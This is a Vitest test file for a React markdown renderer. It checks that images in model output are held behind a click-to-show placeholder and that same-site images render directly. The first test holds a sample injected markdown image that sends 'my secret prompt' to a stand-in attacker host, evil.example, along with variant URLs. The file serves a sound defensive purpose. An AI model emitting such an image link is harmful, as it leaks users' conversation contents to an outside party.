import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { MarkdownRenderer } from "./markdown-renderer";
import { remoteHost } from "./click-to-show-image";

describe("markdown images from model output (issue 16)", () => {
  it("an injected image that would leak the conversation is not loaded until clicked", () => {
    const leak = "Sure! ![x](https://evil.example/p.png?c=my%20secret%20prompt) done";
    const html = renderToStaticMarkup(createElement(MarkdownRenderer, { text: leak }));
    expect(html).not.toContain("<img");
    expect(html).toContain('data-testid="markdown-image-placeholder"');
    expect(html).toContain("evil.example");
    for (const src of ["//evil.example/x.png", "HTTP://EVIL.example/x.png"]) {
      expect(renderToStaticMarkup(createElement(MarkdownRenderer, { text: `![a](${src})` }))).not.toContain("<img");
    }
  });

  it("images from this site show directly", () => {
    const html = renderToStaticMarkup(createElement(MarkdownRenderer, { text: "![logo](/icon.png)" }));
    expect(html).toMatch(/<img[^>]+src="\/icon.png"/);
    expect(remoteHost("data:image/png;base64,AAAA")).toBeUndefined();
    expect(remoteHost("https://a.example/x")).toBe("a.example");
  });
});
